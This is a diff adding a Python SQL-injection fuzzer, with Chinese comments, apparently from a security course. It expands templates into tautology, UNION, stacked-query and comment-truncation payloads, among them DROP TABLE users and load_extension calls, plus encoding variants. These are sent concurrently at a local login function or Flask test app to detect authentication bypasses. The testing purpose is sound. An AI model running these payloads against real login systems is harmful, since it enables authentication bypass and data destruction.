@@ -0,0 +1,256 @@
+"""
+SQL注入模糊测试 - 按语法生成攻击载荷，并发打到登录接口，按响应签名去重
+- 载荷族：永真条件、UNION、堆叠查询、注释截断、表达式/函数，每族由模板 + 槽位取值展开
+- 每个载荷再经过几种编码变形（大小写、URL 编码、全角引号等），分别放在用户名和密码字段
+- 目标可以是 LoginSystem.login_vulnerable / login_secure（进程内调用），也可以是 Flask 的 /login
+- 结果按 (是否登录成功, 归一化后的响应) 分组，同一签名只保留一个示例
+运行: python sqli_fuzzer.py [--target vulnerable|secure|flask] [--limit N] [--workers N]
+"""
+import argparse
+import contextlib
+import itertools
+import os
+import re
+import string
+import sys
+import tempfile
+import threading
+import time
+from collections import Counter, deque, namedtuple
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import quote
+
+SLOTS = {
+    "q": ["'", '"', "')", "'))", "1'", ""],
+    # 空串：'or'1'='1、'or(1)-- 这类不带空格的写法
+    "ws": [" ", "", "/**/", "\t", "\n"],
+    "or": ["OR", "or", "||", "oR"],
+    "and": ["AND", "and", "&&"],
+    "truth": ["1=1", "'1'='1'", "'a'='a'", "2>1", "1 LIKE 1", "'x' IN ('x')", "NOT 0", "1", "(1)", "(1=1)", "'a'<'b'"],
+    # 少一个引号，由原 SQL 末尾的引号补齐
+    "open_truth": ["'1'='1", "'a'='a", "'x' LIKE 'x", "'a'<'b", "'2'>'1"],
+    "end": ["--", "-- -", "#", "/*", ";--", ";"],
+    "cols": ["NULL", "NULL,NULL", "NULL,NULL,NULL", "NULL,NULL,NULL,NULL", "1,'a',3", "1,2,3,4"],
+    "stmt": ["DROP TABLE users", "DELETE FROM users", "UPDATE users SET password='x'",
+             "INSERT INTO users (username,password) VALUES ('x','x')", "SELECT sqlite_version()",
+             "ATTACH DATABASE 'x.db' AS x"],
+    "user": ["admin", "user1", "nobody"],
+    "func": ["sqlite_version()", "randomblob(8)", "load_extension('x')", "char(65)", "hex('a')"],
+}
+
+FAMILIES = {
+    "tautology": ["{q}{ws}{or}{ws}{truth}{ws}{end}", "{q}{ws}{or}{ws}{open_truth}", "{q}{ws}{or}({truth}){or}{q}"],
+    "union": ["{q}{ws}UNION{ws}SELECT{ws}{cols}{ws}{end}", "{q}{ws}UNION{ws}ALL{ws}SELECT{ws}{cols}{ws}{end}"],
+    "stacked": ["{q};{ws}{stmt}{ws}{end}"],
+    "comment": ["{user}{q}{ws}{end}", "{user}{q}/*", "{user}{q}{ws}{and}{ws}{truth}{ws}{end}"],
+    "expression": ["{q}{ws}||{ws}{func}{ws}||{ws}{q}", "{q}{ws}{and}{ws}{func}{ws}{end}"],
+}
+
+_FULLWIDTH = str.maketrans({"'": "＇", '"': "＂", ";": "；", "=": "＝"})
+
+ENCODINGS = {
+    "plain": lambda s: s,
+    "upper": str.upper,
+    "mixed": lambda s: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s)),
+    "url": lambda s: quote(s, safe=""),
+    "double_url": lambda s: quote(quote(s, safe=""), safe=""),
+    "fullwidth": lambda s: s.translate(_FULLWIDTH),
+}
+
+FIELDS = ("username", "password")
+# 载荷放在一个字段时另一个字段的值：密码总是错的，登录成功即说明注入绕过了校验
+DEFAULTS = {"username": "admin", "password": "fuzz-wrong-password"}
+
+Case = namedtuple("Case", "family encoding field payload")
+
+
+def expand(template):
+    """展开一个模板：同名槽位在一个载荷中取相同的值"""
+    names = list(dict.fromkeys(name for _, name, _, _ in string.Formatter().parse(template) if name))
+    for values in itertools.product(*(SLOTS[name] for name in names)):
+        yield template.format(**dict(zip(names, values)))
+
+
+def generate(families=None, encodings=None, fields=FIELDS):
+    """按语法逐个产出测试用例（去掉编码后重复的载荷）"""
+    encodings = encodings or list(ENCODINGS)
+    for family in families or list(FAMILIES):
+        seen = set()
+        for template in FAMILIES[family]:
+            for raw in expand(template):
+                for encoding in encodings:
+                    payload = ENCODINGS[encoding](raw)
+                    if payload in seen:
+                        continue
+                    seen.add(payload)
+                    for field in fields:
+                        yield Case(family, encoding, field, payload)
+
+
+_QUOTED = re.compile(r'"[^"]*"|\'[^\']*\'')
+_NUMBER = re.compile(r"\d+")
+
+
+def normalize(message):
+    """去掉错误信息中回显的载荷片段和数字，使同类错误得到相同签名"""
+    return _NUMBER.sub("N", _QUOTED.sub("?", str(message)))
+
+
+def _credentials(case):
+    values = dict(DEFAULTS)
+    values[case.field] = case.payload
+    return values["username"], values["password"]
+
+
+def login_target(system, method="login_vulnerable"):
+    """进程内调用 LoginSystem 的登录方法"""
+    login = getattr(system, method)
+
+    def send(case):
+        result = login(*_credentials(case))
+        return result["success"], normalize(result["message"])
+
+    return send
+
+
+def flask_target(app, path="/login"):
+    """通过 Flask 测试客户端请求登录接口（不经过网络，每个线程一个客户端）"""
+    local = threading.local()
+
+    def send(case):
+        client = getattr(local, "client", None)
+        if client is None:
+            client = local.client = app.test_client()
+        username, password = _credentials(case)
+        response = client.post(path, json={"username": username, "password": password})
+        body = response.get_json(silent=True) or {}
+        return response.status_code == 200, f"{response.status_code} {normalize(body.get('message', ''))}"
+
+    return send
+
+
+class Finding:
+    """一个响应签名及其示例载荷"""
+
+    def __init__(self, signature, example):
+        self.signature = signature
+        self.example = example
+        self.count = 0
+        self.families = Counter()
+
+    @property
+    def bypass(self):
+        return self.signature[0] is True
+
+
+class FuzzReport:
+    def __init__(self, findings, total, elapsed):
+        self.findings = findings
+        self.total = total
+        self.elapsed = elapsed
+
+    @property
+    def rate(self):
+        return self.total / self.elapsed if self.elapsed else 0.0
+
+    @property
+    def bypasses(self):
+        return [f for f in self.findings.values() if f.bypass]
+
+    def format(self, limit=20):
+        lines = [f"载荷 {self.total} 个，耗时 {self.elapsed:.1f} 秒，{self.rate:.0f} 个/秒",
+                 f"不同响应 {len(self.findings)} 种，其中登录成功（绕过）{len(self.bypasses)} 种"]
+        ranked = sorted(self.findings.values(), key=lambda f: (not f.bypass, -f.count))
+        for finding in ranked[:limit]:
+            ok, message = finding.signature
+            case = finding.example
+            lines.append(f"{'绕过' if ok is True else '失败' if ok is False else '异常'} "
+                         f"x{finding.count:<6} {message[:60]!r}")
+            lines.append(f"    例: {case.field}={case.payload!r} ({case.family}/{case.encoding})")
+            lines.append("    载荷族: " + ", ".join(f"{name} {n}" for name, n in finding.families.most_common()))
+        return "\n".join(lines)
+
+
+def fuzz(send, cases, workers=8, batch_size=500):
+    """
+    并发执行测试用例
+    :param send: 函数，Case -> 签名 (是否登录成功, 响应)
+    :param cases: 测试用例的可迭代对象（可以是生成器）
+    :param workers: 线程数
+    :param batch_size: 每个任务处理的用例数，减少线程池调度开销
+    :return: FuzzReport
+    """
+    def run(batch):
+        results = []
+        for case in batch:
+            try:
+                results.append((case, send(case)))
+            except Exception as e:
+                results.append((case, (None, f"{type(e).__name__}: {normalize(e)}")))
+        return results
+
+    findings = {}
+    total = 0
+
+    def collect(results):
+        nonlocal total
+        for case, signature in results:
+            finding = findings.get(signature)
+            if finding is None:
+                finding = findings[signature] = Finding(signature, case)
+            finding.count += 1
+            finding.families[case.family] += 1
+        total += len(results)
+
+    cases = iter(cases)
+    start = time.perf_counter()
+    with ThreadPoolExecutor(workers) as executor:
+        pending = deque()
+        while True:
+            batch = list(itertools.islice(cases, batch_size))
+            if batch:
+                pending.append(executor.submit(run, batch))
+            # 最多 2 * workers 个批次在途，生成器不会被一次性展开
+            while pending and (len(pending) >= 2 * workers or not batch):
+                collect(pending.popleft().result())
+            if not batch:
+                break
+    return FuzzReport(findings, total, time.perf_counter() - start)
+
+
+def _class_safe_app(db_file):
+    """第四章 class_safe 的 Flask 应用，使用临时数据库，关闭限流和拦截日志"""
+    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "第四章", "classTest", "class_safe"))
+    import app as class_safe
+    class_safe.DB_FILE = db_file
+    class_safe.init_db()
+    class_safe.app.config["RATELIMIT_ENABLED"] = False
+    class_safe.app.logger.disabled = True
+    return class_safe.app
+
+
+def main():
+    parser = argparse.ArgumentParser(description="SQL注入模糊测试")
+    parser.add_argument("--target", choices=["vulnerable", "secure", "flask"], default="vulnerable")
+    parser.add_argument("--limit", type=int, default=None, help="最多执行的载荷数")
+    parser.add_argument("--workers", type=int, default=8)
+    args = parser.parse_args()
+
+    db_file = os.path.join(tempfile.mkdtemp(), "fuzz.db")
+    cases = itertools.islice(generate(), args.limit)
+    if args.target == "flask":
+        send = flask_target(_class_safe_app(db_file))
+        # class_safe 会打印每条 SQL
+        with open(os.devnull, "w") as devnull, contextlib.redirect_stdout(devnull):
+            report = fuzz(send, cases, args.workers)
+    else:
+        from login_system import LoginSystem
+        # 只关心 SQL 行为，降低测试库的哈希成本
+        system = LoginSystem(db_file, iterations=100)
+        report = fuzz(login_target(system, f"login_{args.target}"), cases, args.workers)
+        system.cleanup()
+    print(report.format())
+
+
+if __name__ == "__main__":
+    main()